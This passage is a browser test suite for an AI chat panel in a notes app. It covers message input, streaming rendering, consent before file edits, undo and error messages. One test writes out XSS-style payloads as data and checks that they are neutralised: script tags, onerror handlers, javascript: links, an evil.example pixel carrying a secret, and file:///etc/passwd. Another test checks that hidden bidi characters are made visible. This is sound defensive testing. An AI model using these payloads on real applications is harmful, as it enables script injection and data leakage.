import { createVaultTools, ToolRegistry } from '@dragoman/agent';
import type { Locator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type Look, type PanelBrowser, startPanelBrowser } from './open-page.ts';
import type { PageOptions } from './page.ts';

// The panel in a real browser. "npm run test:obsidian" runs this; it needs Chromium.

let browser: PanelBrowser;
afterEach(() => browser.closePages());
beforeAll(async () => {
  browser = await startPanelBrowser();
});
afterAll(() => browser.close());

const open = (options?: PageOptions & Look) => browser.open(options);
const field = (page: Page) => page.getByRole('textbox', { name: 'Message', exact: true });
const log = (page: Page) => page.getByRole('log');
const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name });
const lines = (page: Page) => page.locator('.dragoman-activity');
const note = (page: Page) => page.locator('.dragoman-note');

async function say(page: Page, text: string): Promise<void> {
  await field(page).fill(text);
  await field(page).press('Enter');
}

const idle = (page: Page) => page.getByRole('button', { name: 'Send', exact: true }).waitFor();
const read = (page: Page, path: string) => page.evaluate((at) => window.world.vault.files.get(at), path);
const give = (page: Page, text: string) => page.evaluate((piece) => window.world.text(piece), text);
const end = (page: Page) => page.evaluate(() => window.world.end());
const scrollOf = (page: Page) =>
  log(page).evaluate(({ scrollTop, scrollHeight, clientHeight }) => ({
    top: Math.round(scrollTop),
    below: Math.round(scrollHeight - scrollTop - clientHeight),
  }));
const frame = (page: Page) =>
  page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));

const todo = '# Garden\n\nBeds by March.\n\n- [ ] beds\n- [ ] compost\n';
const edit = {
  text: 'I tick it off.',
  calls: [['line_edit', { path: 'Garden.md', old: '- [ ] beds', new: '- [x] beds' }]],
} as const;
const editOther = { calls: [['line_edit', { path: 'Garden.md', old: '- [ ] compost', new: '' }]] } as const;
const done = todo.replace('[ ] beds', '[x] beds');

describe('writing', () => {
  it('D-079: Enter sends once, Shift with Enter is a new line, and keys of an input method send nothing', async () => {
    const page = await open({ replies: [{ text: 'Hello.' }] });
    await field(page).pressSequentially('One');
    await field(page).press('Shift+Enter');
    await field(page).pressSequentially('two');
    // Chromium marks keys that an input method takes; some engines only give them this number.
    await field(page).evaluate((input) => {
      const key = { key: 'Enter', bubbles: true, cancelable: true };
      input.dispatchEvent(new KeyboardEvent('keydown', { ...key, isComposing: true }));
      input.dispatchEvent(new KeyboardEvent('keydown', { ...key, keyCode: 229 }));
    });
    expect(await page.evaluate(() => window.world.asked)).toBe(0);
    expect(await field(page).inputValue()).toBe('One\ntwo');
    await field(page).press('Enter');
    await log(page).getByText('Hello.').waitFor();
    expect(await page.evaluate(() => window.world.asked)).toBe(1);
    expect(await field(page).inputValue()).toBe('');
    expect(await page.locator('.dragoman-user .dragoman-text').innerText()).toBe('One\ntwo');
  });

  it('D-079, D-062: while a task runs nothing is sent and it can be cancelled; what came is kept', async () => {
    const page = await open();
    expect(await button(page, 'Send').isDisabled()).toBe(true);
    await say(page, 'Tell me a story.');
    await give(page, 'Once upon');
    await log(page).getByText('Once upon').waitFor();
    await say(page, 'The next message');
    expect(await page.evaluate(() => window.world.asked)).toBe(1);
    expect(await field(page).inputValue()).toBe('The next message');
    expect(await button(page, 'Send').isVisible()).toBe(false);
    await button(page, 'Cancel').click();
    await note(page).getByText('Cancelled.').waitFor();
    await idle(page);
    const kept = await page.evaluate(async () => {
      const [chat] = await window.world.store.list();
      return (await window.world.store.open(chat?.id ?? '')).messages.map(({ role, content }) => [role, content]);
    });
    expect(kept).toEqual([
      ['user', 'Tell me a story.'],
      ['assistant', 'Once upon'],
    ]);
    expect(await field(page).inputValue()).toBe('The next message');
  });

  it('the field grows with its text up to a limit, and Escape cancels', async () => {
    const page = await open();
    const height = async () => (await field(page).boundingBox())?.height ?? 0;
    const before = await height();
    await field(page).fill('a\nb\nc\nd');
    expect(await height()).toBeGreaterThan(before);
    await field(page).fill('line\n'.repeat(100));
    expect(await height()).toBeLessThanOrEqual(288);
    await say(page, 'Go.');
    await button(page, 'Cancel').waitFor();
    await field(page).press('Escape');
    await note(page).getByText('Cancelled.').waitFor();
  });

  it('what cannot be kept stays in the field, with what is wrong', async () => {
    const page = await open({ replies: [] });
    await page.evaluate(() => window.world.breakDisk());
    await say(page, 'Keep me.');
    await page.getByRole('alert').getByText('The disk is full.').waitFor();
    expect(await field(page).inputValue()).toBe('Keep me.');
    expect(await page.locator('.dragoman-user').count()).toBe(0);
  });
});

describe('what comes', () => {
  it('D-073, D-074: goes along only near the bottom, and otherwise offers to jump', async () => {
    const page = await open();
    await say(page, 'Tell me a long story.');
    await give(page, 'A paragraph of the story.\n\n'.repeat(60));
    await frame(page);
    expect((await scrollOf(page)).below).toBe(0);
    expect(await button(page, 'Newest').isVisible()).toBe(false);
    await log(page).evaluate((element) => element.scrollBy(0, -40));
    await give(page, 'More.\n\n'.repeat(20));
    await frame(page);
    expect((await scrollOf(page)).below).toBe(0);
    await log(page).evaluate((element) => {
      element.scrollTop = 100;
    });
    await give(page, 'Even more.\n\n'.repeat(20));
    await frame(page);
    expect((await scrollOf(page)).top).toBe(100);
    await browser.picture(page, 'scrolled-up');
    await button(page, 'Newest').click();
    expect((await scrollOf(page)).below).toBe(0);
    expect(await button(page, 'Newest').isVisible()).toBe(false);
    await give(page, 'The end.');
    await end(page);
    await idle(page);
    expect((await scrollOf(page)).below).toBe(0);
  });

  it('D-077: blocks that are over are not drawn again, and nothing of 10,000 deltas is lost', async () => {
    const page = await open();
    await say(page, 'Tell me.');
    await give(page, 'First paragraph.\n\nSecond');
    await frame(page);
    const text = await page.evaluate(async () => {
      const first = document.querySelector('.dragoman-reply p');
      let removed = 0;
      let drawings = 0;
      const watch = new MutationObserver((records) => {
        drawings += 1;
        for (const { removedNodes } of records) removed += [...removedNodes].filter((each) => each === first).length;
      });
      const reply = document.querySelector('.dragoman-reply');
      if (reply !== null) watch.observe(reply, { subtree: true, childList: true, characterData: true });
      let all = '';
      for (let delta = 0; delta < 10_000; delta += 1) {
        const piece = delta % 40 === 39 ? '.\n\n' : ` w${delta}`;
        all += piece;
        window.world.text(piece);
        if (delta % 500 === 499) await new Promise(requestAnimationFrame);
      }
      await new Promise(requestAnimationFrame);
      await new Promise(requestAnimationFrame);
      const shown = document.querySelector('.dragoman-reply .dragoman-text')?.textContent ?? '';
      const words = (given: string) => given.split(/\s+/u).join('');
      return {
        removed,
        drawings,
        isSame: first?.isConnected,
        isWhole: words(shown) === words(`First paragraph.Second${all}`),
      };
    });
    expect(text).toMatchObject({ removed: 0, isSame: true, isWhole: true });
    // A drawing for each frame, and not for each delta.
    expect(text.drawings).toBeLessThan(200);
  });

  it('a long block is whole however it was cut, with what came in between after it', async () => {
    const page = await open();
    await say(page, 'A list.');
    const items = Array.from({ length: 400 }, (_, at) => `- item **${at}** of the list\n  1. under *it*\n`).join('');
    await page.evaluate(async (given) => {
      for (let at = 0; at < given.length; at += 7) {
        window.world.text(given.slice(at, at + 7));
        if (at % 70 === 0) await new Promise(requestAnimationFrame);
      }
      window.world.text('\n```js\nconst open = `1`;\n');
      await new Promise(requestAnimationFrame);
      window.world.text('more();\n```\nLast words.');
      window.world.end();
    }, items);
    await idle(page);
    const reply = page.locator('.dragoman-reply');
    expect(await reply.locator('.dragoman-text > ul').count()).toBe(1);
    expect(await reply.locator('.dragoman-text > ul > li').count()).toBe(400);
    expect(await reply.locator('li strong').count()).toBe(400);
    expect(await reply.locator('li > ol > li em').count()).toBe(400);
    expect(await reply.locator('pre code').textContent()).toBe('const open = `1`;\nmore();\n');
    expect(await reply.locator('p').last().innerText()).toBe('Last words.');
  });

  it('D-077: a text is drawn alike however it was cut', async () => {
    const text = [
      'Words with *emphasis*, `code` and [[Note|a link]].\r\nA second line.',
      'A heading\n===',
      '- one\n- two\n\n  with a paragraph\n  1. under\n  2. it\n- [ ] three',
      '3. from\n4. three\n\n* another list',
      '> quoted\nand lazily so\n> - item',
      '| a | b |\n|---|:-:|\n| 1 | 2 |\n| `x` | ![](y) |',
      `  | *long* | table |\r\n|:--|--:|\r\n${'| cell \\| of | `it|` |\r\n'.repeat(300)}no bars\n- a list after it`,
      '~~~md\n```js\nnested\n```\n~~~',
      '    indented code\n\n    more',
      'Words [with][ref] a reference.\n\n[ref]: https://example.org "title"\n\n[ref] once more',
      '1. '.repeat(60),
      '***\n\n**open *marks\n\n- a\n\n\n- b\n```',
    ].join('\n\n');
    const page = await open();
    const different = await page.evaluate((given) => {
      const pieces = [1, 2, 3, 5, 7, 11, 40, 200, 3_000];
      const both = pieces.map((piece) => [piece, ...window.world.drawBoth(given, piece)] as const);
      return both.filter(([, coming, whole]) => coming !== whole);
    }, text);
    expect(different).toEqual([]);
  });

  it('D-078: what a model writes is drawn without HTML, and loads and runs nothing', async () => {
    const hostile = [
      '<script>window.hacked = 1</script>',
      '<img src="x" onerror="window.hacked = 2"> <iframe src="https://evil.example"></iframe>',
      '![pixel](https://evil.example/pixel.png?secret) ![data](data:image/svg+xml,<svg/onload=alert(1)>)',
      '[click](javascript:window.hacked=3) [cased](JaVaScRiPt:alert(1)) [app](obsidian://eval?code=1) [file](file:///etc/passwd)',
      '[words](https://example.org/page) [[Note|shown]] ![[Secret]] [path](Folder/Other%20note.md)',
      '```dataviewjs\nwindow.hacked = 4\n```',
      '`$= window.hacked = 5`',
      '<a href="javascript:alert(1)">x</a> &lt;b&gt; \\<b>',
    ].join('\n\n');
    const page = await open();
    await say(page, hostile);
    await give(page, hostile);
    await end(page);
    await idle(page);
    const reply = page.locator('.dragoman-reply .dragoman-text');
    for (const place of [reply, page.locator('.dragoman-user .dragoman-text')]) {
      expect(await place.locator('script, img, iframe, svg:not(.svg-icon), object, embed, style, link').count()).toBe(
        0,
      );
      const attributes = await place.evaluate((element) =>
        [...element.querySelectorAll('*')].flatMap((each) => [...each.attributes].map(({ name }) => name)),
      );
      expect(attributes.filter((name) => name.startsWith('on') || name === 'src' || name === 'style')).toEqual([]);
      const links = await place.locator('a').evaluateAll((all) => all.map((each) => each.getAttribute('href')));
      expect(links).toEqual([
        'https://evil.example',
        'https://evil.example/pixel.png?secret',
        'https://example.org/page',
        '#',
        '#',
        '#',
      ]);
    }
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(await reply.innerText()).toContain('<script>window.hacked = 1</script>');
    await reply.getByRole('link', { name: 'shown' }).click();
    await reply.getByRole('link', { name: 'Secret' }).press('Enter');
    await reply.getByRole('link', { name: 'path' }).click();
    expect(await page.evaluate(() => window.world.done)).toEqual([
      'open Note',
      'open Secret',
      'open Folder/Other note.md',
    ]);
  });

  it.each([
    '[',
    '*a ',
    '>',
    '![',
    '[a](',
    '~~a',
    '- ',
    '1. ',
    '> - ',
    '> - a\n',
    '|a',
    '`',
    '[[',
    '<',
    'http://a.',
    '```\n',
  ])('D-078: %j five thousand times is drawn like any other text', async (piece) => {
    const page = await open();
    await say(page, 'Go.');
    await give(page, piece.repeat(2_500));
    await frame(page);
    await give(page, `${piece.repeat(2_500)}\n\nThe end.`);
    await end(page);
    await idle(page);
    expect(await page.locator('.dragoman-reply').innerText()).toContain('The end.');
  });

  it('D-070, D-075: no line of state is seen, neither in what comes nor in an old chat, and nothing to fold it', async () => {
    const messages = [
      { role: 'user', content: 'Hi' },
      { role: 'assistant', content: 'STATE: idle\nNEEDS_CONFIRMATION: false\n\nOld answer.' },
    ] as const;
    const page = await open({ chats: [{ messages }] });
    await page.evaluate(async () => window.world.panel.open((await window.world.store.list())[0]?.id));
    await log(page).getByText('Old answer.').waitFor();
    expect(await log(page).innerText()).not.toContain('STATE');
    await say(page, 'Go on.');
    await give(page, 'STATE: planning\nNEEDS_CONFIRMATION: true\n\nNew ');
    await log(page).getByText('New').waitFor();
    expect(await log(page).innerText()).not.toMatch(/STATE|NEEDS/);
    await give(page, 'answer.');
    await end(page);
    await idle(page);
    expect(await log(page).innerText()).not.toMatch(/STATE|NEEDS/);
    expect(await page.locator('.dragoman-reply details').count()).toBe(0);
  });

  it('D-076: thoughts fold, and whether they are open is known to the view alone', async () => {
    const page = await open();
    await say(page, 'Think.');
    await page.evaluate(() => window.world.give({ type: 'reasoning-delta', block: 0, text: 'Let me see.' }));
    const thought = page.locator('.dragoman-think');
    await thought.locator('summary').click();
    await thought.getByText('Let me see.').waitFor();
    await give(page, 'Seen.');
    await end(page);
    await idle(page);
    expect(await thought.evaluate((element) => element instanceof HTMLDetailsElement && element.open)).toBe(true);
    expect(await thought.locator('summary').innerText()).toBe('Thought');
    const kept = await page.evaluate(async () => {
      const [chat] = await window.world.store.list();
      return JSON.stringify((await window.world.store.open(chat?.id ?? '')).messages);
    });
    expect(kept).toBe('[{"role":"user","content":"Think."},{"role":"assistant","content":"Seen."}]');
  });

  it('D-080, D-093: a reply without an answer and a server that is away are told, with what to do', async () => {
    const page = await open({
      replies: [{ think: 'Hm.' }, { text: 'Half', error: 'upstream-unreachable' }, { text: 'Whole.' }],
    });
    await say(page, 'Go.');
    await note(page).getByText('The model gave no answer').waitFor();
    await idle(page);
    await say(page, 'Again.');
    await page.getByRole('alert').getByText('http://127.0.0.1:11434 cannot be reached').waitFor();
    await browser.picture(page, 'error');
    await button(page, 'Open settings').click();
    expect(await page.evaluate(() => window.world.done)).toEqual(['settings']);
    await button(page, 'Try again').click();
    await log(page).getByText('Whole.').waitFor();
    expect(await page.getByRole('alert').filter({ hasText: 'cannot be reached' }).count()).toBe(0);
    await idle(page);
    // What failed gives way, and no other chat is made for it.
    expect(await page.evaluate(async () => (await window.world.store.list()).length)).toBe(1);
    expect(await log(page).innerText()).not.toContain('Half');
  });
});

describe('D-093: where a request fails, the panel says why, and offers what helps', () => {
  it.each([
    ['upstream-unreachable', 'cannot be reached', ['Try again', 'Open settings']],
    ['upstream-unauthorized', 'refused the key', ['Try again', 'Open settings']],
    ['connect-timeout', 'did not answer in time', ['Try again', 'Open settings']],
    ['model-unknown', 'has no model "qwen3:8b"', ['Try again', 'Choose a model']],
    ['first-token-timeout', 'took too long', ['Try again', 'Choose a model']],
    ['context-too-long', 'too long for the window', ['Try again', 'Summarise earlier messages']],
    ['upstream-overloaded', 'too much to do', ['Try again']],
  ] as const)('%s', async (error, text, offers) => {
    const page = await open({ replies: [{ text: 'Hello.' }, { error }, { text: 'A summary.' }, { text: 'There.' }] });
    await say(page, 'Hi.');
    await idle(page);
    await say(page, 'And?');
    const told = page.getByRole('alert').filter({ hasText: text });
    expect(await told.getByRole('button').allInnerTexts()).toEqual([...offers]);
    await browser.picture(page, `error-${error}`);
    await told.getByRole('button').last().click();
    if (offers.at(-1) === 'Open settings') expect(await page.evaluate(() => window.world.done)).toEqual(['settings']);
    else if (offers.at(-1) === 'Choose a model') await page.getByRole('dialog', { name: 'Models' }).waitFor();
    else if (offers.at(-1) === 'Try again') await log(page).getByText('A summary.').waitFor();
    else await page.getByText('sent to the model as a summary').waitFor();
  });
});

describe('what is done', () => {
  it('D-071, D-072: each call has a line with how it stands, which opens on arguments and result', async () => {
    const calls = [
      ['read', { path: 'a.md' }],
      ['read', { path: 'none.md' }],
    ] as const;
    const page = await open({ notes: { 'a.md': 'Alpha' }, replies: [{ calls }, { text: 'There.' }] });
    await say(page, 'Read.');
    await log(page).getByText('There.').waitFor();
    expect(await lines(page).locator('summary').allInnerTexts()).toEqual(['read a.md', 'could not read none.md']);
    expect(
      await lines(page).evaluateAll((all) =>
        all.map((each) => (each instanceof HTMLElement ? each.dataset.status : '')),
      ),
    ).toEqual(['ok', 'error']);
    await lines(page).first().locator('summary').click();
    await expect.poll(() => lines(page).first().innerText()).toMatch(/path\s+a\.md\s+Result\s+Alpha/);
  });

  it('D-056: a change is shown before it is made, and made when its person says so; the line can take it back', async () => {
    const page = await open({ notes: { 'Garden.md': todo }, replies: [edit, { text: 'Done.' }] });
    await say(page, 'Tick off beds.');
    const card = page.getByRole('group', { name: 'Change Garden.md?' });
    await card.waitFor();
    expect(await lines(page).getAttribute('data-status')).toBe('running');
    expect(await card.locator('.is-removed .dragoman-diff-text').innerText()).toBe('- [ ] beds');
    expect(await card.locator('.dragoman-diff .is-added .dragoman-diff-text').innerText()).toBe('- [x] beds');
    expect(await read(page, 'Garden.md')).toBe(todo);
    await browser.picture(page, 'consent');
    // Keys that were meant for something else say nothing.
    await page.keyboard.press('Enter');
    await page.keyboard.press('Space');
    expect(await read(page, 'Garden.md')).toBe(todo);
    await page.keyboard.press('Control+Enter');
    await idle(page);
    expect(await read(page, 'Garden.md')).toBe(done);
    await button(page, 'Undo: edited Garden.md').click();
    await lines(page).getByText('taken back').waitFor();
    expect(await read(page, 'Garden.md')).toBe(todo);
    expect(await button(page, /^Undo/).count()).toBe(0);
  });

  it('D-057: what is rejected is not made, by button or by Escape, and the model goes on', async () => {
    const page = await open({ notes: { 'Garden.md': todo }, replies: [edit, editOther, { text: 'Then not.' }] });
    await say(page, 'Tick off beds.');
    await button(page, 'Reject').click();
    await page.getByRole('group', { name: 'Change Garden.md?' }).waitFor();
    await page.getByRole('group', { name: 'Change Garden.md?' }).focus();
    await page.keyboard.press('Escape');
    await log(page).getByText('Then not.').waitFor();
    expect(await read(page, 'Garden.md')).toBe(todo);
    expect(await lines(page).locator('summary').allInnerTexts()).toEqual([
      'was not allowed to edit Garden.md',
      'was not allowed to edit Garden.md',
    ]);
  });

  it('all changes of a chat can be allowed at once, which is seen and can be taken back', async () => {
    const write = (path: string) => ({ calls: [['write', { path, text: 'x' }]] as const });
    const replies = [write('a.md'), write('b.md'), { text: 'Two.' }, write('c.md'), { text: 'Three.' }];
    const page = await open({ replies });
    await say(page, 'Go.');
    await button(page, 'Allow all changes in this chat').click();
    await log(page).getByText('Two.').waitFor();
    expect(await read(page, 'b.md')).toBe('x');
    await button(page, /Ask again$/)
      .last()
      .click();
    await say(page, 'Go on.');
    await page.getByRole('group', { name: 'Create c.md?' }).waitFor();
    expect(await read(page, 'c.md')).toBeUndefined();
    await button(page, 'Create').click();
    await log(page).getByText('Three.').waitFor();
  });

  it('D-062: cancelling while its person is asked makes nothing', async () => {
    const page = await open({ notes: { 'Garden.md': todo }, replies: [edit] });
    await say(page, 'Tick off beds.');
    await button(page, 'Apply').waitFor();
    await button(page, 'Cancel').click();
    await idle(page);
    expect(await page.getByRole('group', { name: /Change/ }).count()).toBe(0);
    expect(await read(page, 'Garden.md')).toBe(todo);
    expect(await lines(page).locator('summary').innerText()).toBe('did not edit Garden.md: cancelled');
  });

  it('a call of a tool that somebody else runs is shown with who that is and what it gets', async () => {
    const page = await open({
      withForeignTool: true,
      replies: [{ calls: [['weather', { city: 'Oslo' }]] }, { text: 'Rain.' }],
    });
    await say(page, 'Weather?');
    const card = page.getByRole('group', { name: 'Call weather of MCP server "sky"?' });
    await card.waitFor();
    expect(await card.innerText()).toMatch(/city\s+Oslo/);
    await browser.picture(page, 'consent-call');
    await card.getByRole('button', { name: 'Allow', exact: true }).click();
    await log(page).locator('.dragoman-text', { hasText: 'Rain.' }).waitFor();
  });

  it('what would not be seen in a change is seen', async () => {
    const text = 'access = "user\u202e \u2066// admin\u2069"\u{e0041}\u200b 👩\u200d🌾';
    const page = await open({ replies: [{ calls: [['write', { path: 'no\u202etes.md', text }]] }] });
    await say(page, 'Write.');
    const card = page.getByRole('group', { name: 'Create no⟨U+202E⟩tes.md?' });
    await card.waitFor();
    expect(await card.locator('.dragoman-diff-text').first().innerText()).toBe(
      'access = "user⟨U+202E⟩ ⟨U+2066⟩// admin⟨U+2069⟩"⟨U+E0041⟩⟨U+200B⟩ 👩\u200d🌾',
    );
    await button(page, 'Reject').click();
  });

  it('a change whose file has changed since is not taken back, and that is told', async () => {
    const page = await open({ notes: { 'Garden.md': todo }, replies: [edit, { text: 'Done.' }] });
    await say(page, 'Tick off beds.');
    await button(page, 'Apply').click();
    await idle(page);
    await page.evaluate(() => window.world.vault.write('Garden.md', 'mine'));
    await button(page, /^Undo/).click();
    await page.getByRole('alert').getByText('has changed since').waitFor();
    expect(await read(page, 'Garden.md')).toBe('mine');
  });
});

const talk = (count: number) =>
  Array.from({ length: count }, (_, at) => [
    { role: 'user', content: `Question ${at}?` },
    { role: 'assistant', content: `Answer ${at}.\n\nWith a second paragraph.` },
  ]).flat() as NonNullable<PageOptions['chats']>[number]['messages'];

const openFirst = (page: Page) =>
  page.evaluate(async () => window.world.panel.open((await window.world.store.list())[0]?.id));

describe('chats', () => {
  it('a message can be changed and sent again in a new chat; the old one stays as it was', async () => {
    const page = await open({ chats: [{ messages: talk(3) }], replies: [{ text: 'Another way.' }] });
    await openFirst(page);
    const message = page.locator('.dragoman-user').nth(1);
    await message.hover();
    await message.getByRole('button', { name: 'Edit message' }).click();
    await page.getByRole('textbox', { name: 'Change the message' }).fill('Other question?');
    await page.keyboard.press('Enter');
    await log(page).getByText('Another way.').waitFor();
    await idle(page);
    expect(await page.locator('.dragoman-user .dragoman-text').allInnerTexts()).toEqual([
      'Question 0?',
      'Other question?',
    ]);
    const lengths = await page.evaluate(async () => {
      const { store } = window.world;
      const all = await store.list();
      return Promise.all(all.map(async ({ id }) => (await store.open(id)).messages.length));
    });
    expect(lengths).toEqual([4, 6]);
    await button(page, 'Go back to it').click();
    await log(page).getByText('Answer 2.').waitFor();
  });

  it('the last message is asked again where it stands, and ArrowUp changes it', async () => {
    const page = await open({ replies: [{ error: 'upstream-cut' }, { text: 'Now.' }] });
    await say(page, 'Frist?');
    await button(page, 'Try again').waitFor();
    await field(page).focus();
    await page.keyboard.press('ArrowUp');
    await page.getByRole('textbox', { name: 'Change the message' }).fill('First?');
    await page.keyboard.press('Enter');
    await log(page).getByText('Now.').waitFor();
    expect(await page.locator('.dragoman-user').count()).toBe(1);
    expect(await page.evaluate(async () => (await window.world.store.list()).length)).toBe(1);
  });

  it('chats are found, renamed, written out and deleted after a question, with the keyboard', async () => {
    const chats = [
      { title: 'Garden plans', messages: talk(1) },
      { title: 'Taxes', messages: talk(1) },
    ];
    const page = await open({ chats });
    await button(page, /^Chats/).focus();
    await page.keyboard.press('Enter');
    const sheet = page.getByRole('dialog', { name: 'Chats' });
    await sheet.getByRole('button', { name: 'Taxes', exact: false }).first().waitFor();
    await browser.picture(page, 'chats');
    await page.keyboard.type('garden');
    await expect.poll(() => sheet.locator('.dragoman-row').count()).toBe(1);
    await sheet.getByRole('button', { name: 'Rename: Garden plans' }).press('Enter');
    await page.keyboard.type('Flowers');
    await page.keyboard.press('Enter');
    await sheet.getByRole('button', { name: 'Rename: Flowers' }).waitFor();
    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe('Rename: Flowers');
    await sheet.getByRole('button', { name: 'Export: Flowers' }).press('Enter');
    expect(await page.evaluate(() => window.world.done)).toEqual(['export Flowers']);
    await sheet.getByRole('searchbox').fill('');
    await sheet.getByRole('button', { name: 'Delete: Taxes' }).press('Enter');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Keep it');
    await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Enter');
    await expect.poll(() => sheet.locator('.dragoman-row-title').allInnerTexts()).toEqual(['Flowers']);
    await page.keyboard.press('Escape');
    expect(await sheet.count()).toBe(0);
    expect(await page.evaluate(() => document.activeElement?.className)).toBe('dragoman-title');
    expect(await page.evaluate(async () => (await window.world.store.list()).map(({ title }) => title))).toEqual([
      'Flowers',
    ]);
  });

  it('a chat that is at work can be deleted: its task ends, and nothing of it is kept', async () => {
    const page = await open();
    await say(page, 'Tell me a story.');
    await give(page, 'Once upon');
    await log(page).getByText('Once upon').waitFor();
    await button(page, /^Chats/).click();
    const sheet = page.getByRole('dialog', { name: 'Chats' });
    await sheet.getByRole('button', { name: 'Delete: Tell me a story.' }).click();
    await sheet.getByRole('button', { name: 'Delete', exact: true }).click();
    await sheet.getByText('There are no chats yet.').waitFor();
    await page.keyboard.press('Escape');
    await log(page).getByText('Ask about your notes').waitFor();
    expect(await page.evaluate(async () => (await window.world.store.list()).length)).toBe(0);
  });

  it('a chat goes on while another one is shown, and says when it waits', async () => {
    const page = await open({ notes: { 'Garden.md': todo }, replies: [edit, { text: 'Done.' }] });
    await say(page, 'Tick off beds.');
    await button(page, 'Apply').waitFor();
    await button(page, 'New chat').click();
    expect(await button(page, /another chat waits for you/).count()).toBe(1);
    await field(page).fill('half a thought');
    await button(page, /^Chats/).click();
    await page.getByText('waits for you ·').click();
    await button(page, 'Apply').click();
    await log(page).getByText('Done.').waitFor();
    expect(await field(page).inputValue()).toBe('');
    expect(await read(page, 'Garden.md')).toBe(done);
  });

  it('of a long chat the end is drawn, and earlier messages when they are wanted, in their place', async () => {
    const page = await open({ chats: [{ messages: talk(150) }] });
    await openFirst(page);
    await log(page).getByText('Answer 149.').waitFor();
    expect((await scrollOf(page)).below).toBe(0);
    const drawn = await page.locator('.dragoman-message').count();
    expect(drawn).toBeLessThan(80);
    const first = page.locator('.dragoman-user').first();
    const name = await first.locator('.dragoman-text').innerText();
    await log(page).evaluate((element) => {
      element.scrollTop = 0;
    });
    const top = (await first.boundingBox())?.y ?? 0;
    await button(page, /Show earlier messages/).click();
    const same = page.locator('.dragoman-user', { hasText: name });
    expect(await page.locator('.dragoman-message').count()).toBeGreaterThan(drawn);
    expect(Math.abs(((await same.boundingBox())?.y ?? 0) - top)).toBeLessThan(50);
  });
});

describe('models and context', () => {
  it('a model is chosen for a chat, and what is missing says what to do', async () => {
    const page = await open({ models: [], problems: ['http://127.0.0.1:11434 cannot be reached. Start Ollama.'] });
    await log(page).getByText('Start Ollama.').waitFor();
    expect(await button(page, 'Look again').count()).toBe(1);
    await button(page, 'Add a server').click();
    expect(await page.evaluate(() => window.world.done)).toEqual(['settings']);
    await browser.picture(page, 'empty-no-model');
    await say(page, 'Hello?');
    await page.getByRole('dialog', { name: 'Models' }).getByText('Start Ollama.').waitFor();
    expect(await field(page).inputValue()).toBe('Hello?');
    const other = await open({ replies: [{ text: 'Hi.' }] });
    await button(other, 'Model: qwen3:8b').click();
    await other.keyboard.type('gem');
    await other.keyboard.press('ArrowDown');
    await other.keyboard.press('Enter');
    await button(other, 'Model: gemma3:27b').waitFor();
    await say(other, 'Hello?');
    await log(other).getByText('Hi.').waitFor();
    const kept = await other.evaluate(async () => {
      const [chat] = await window.world.store.list();
      return (await window.world.store.open(chat?.id ?? '')).settings;
    });
    expect(kept).toEqual({ model: 'gemma3:27b' });
  });

  it('what the model was sent is seen, with what was cut, and how full the context is', async () => {
    const sources = { activeNote: { path: 'Garden.md', text: 'x'.repeat(9_000) } };
    const page = await open({ sources, context: 6_000, replies: [{ text: 'Hi.' }] });
    await say(page, 'Hello?');
    await idle(page);
    await button(page, /^Context: \d+% full, something was left out$/).click();
    const sheet = page.getByRole('dialog', { name: 'What the model was sent' });
    expect(await sheet.locator('.is-cut').innerText()).toMatch(
      /Active note\s+1,500 of 9,000\s+7,500 characters were left out/,
    );
    await sheet.getByText('The tools alone take more than half of the prompt.').waitFor();
    await browser.picture(page, 'context');
    await sheet.locator('summary', { hasText: /^You/ }).click();
    expect(await sheet.locator('pre').first().innerText()).toContain('<active_note path="Garden.md">');
  });

  it('a summary of earlier messages is seen where it stands, and can be taken back', async () => {
    const long = (word: string) => `${word} `.repeat(400);
    const replies = [{ text: long('one') }, { text: long('two') }, { text: 'The summary.' }, { text: 'three' }];
    const lengthOfTools = JSON.stringify(new ToolRegistry(createVaultTools()).definitions).length;
    const page = await open({ context: 4_000 + lengthOfTools, replies });
    for (const words of ['First?', 'Second?', 'Third?']) {
      await say(page, words);
      await button(page, 'Cancel').waitFor({ state: 'hidden' });
      await idle(page);
    }
    const line = page.getByRole('group', { name: 'Summary' });
    await line.waitFor();
    await line.locator('summary').click();
    await line.getByText('The summary.').waitFor();
    const order = await page
      .locator('.dragoman-messages > *')
      .evaluateAll((all) => all.map(({ textContent }) => textContent?.slice(0, 11)));
    expect(order.findIndex((text) => text === 'The message')).toBe(order.indexOf('Third?') - 1);
    await browser.picture(page, 'compacted');
    await line.getByRole('button', { name: 'Send them in full again' }).click();
    await line.waitFor({ state: 'detached' });
    expect(await page.locator('.dragoman-user').count()).toBe(3);
  });

  it('the note that is open and the selection go along or not', async () => {
    const attachments = [
      { kind: 'active-note', label: 'Garden.md', isOn: true },
      { kind: 'selection', label: '12 characters selected', isOn: false },
    ] as const;
    const page = await open({ attachments });
    const chip = button(page, 'Send the active note: Garden.md');
    expect(await chip.getAttribute('aria-pressed')).toBe('true');
    await chip.press('Enter');
    expect(await chip.getAttribute('aria-pressed')).toBe('false');
    expect(await chip.evaluate((element) => element === document.activeElement)).toBe(true);
  });
});

/** States in which the whole panel is looked at. */
const states: readonly (readonly [name: string, reach: (page: Page) => Promise<void>])[] = [
  ['empty', async (page) => field(page).waitFor()],
  [
    'chat',
    async (page) => {
      await openFirst(page);
      await log(page).getByText('a plan').waitFor();
    },
  ],
  [
    'asking',
    async (page) => {
      await say(page, 'Tick off beds.');
      await button(page, 'Apply').waitFor();
    },
  ],
  [
    'chats',
    async (page) => {
      await button(page, /^Chats/).click();
      await page.getByRole('dialog').locator('.dragoman-row').first().waitFor();
    },
  ],
  [
    'models',
    async (page) => {
      await button(page, /^Model/).click();
      await page.getByRole('dialog').locator('.dragoman-row').first().waitFor();
    },
  ],
];

const looks = {
  light: {},
  dark: { theme: 'dark' },
  narrow: { width: 300, height: 640 },
  phone: { width: 390, height: 844, isMobile: true },
  wide: { width: 1_000, theme: 'dark' },
} as const satisfies Readonly<Record<string, Look>>;

const rich = {
  notes: { 'Garden.md': todo },
  attachments: [{ kind: 'active-note', label: 'Projects/Garden with a rather long name.md', isOn: true }],
  keepThink: true,
  chats: [
    {
      messages: [
        { role: 'user', content: 'What is open in the garden? Look at [[Garden]], too.' },
        {
          role: 'assistant',
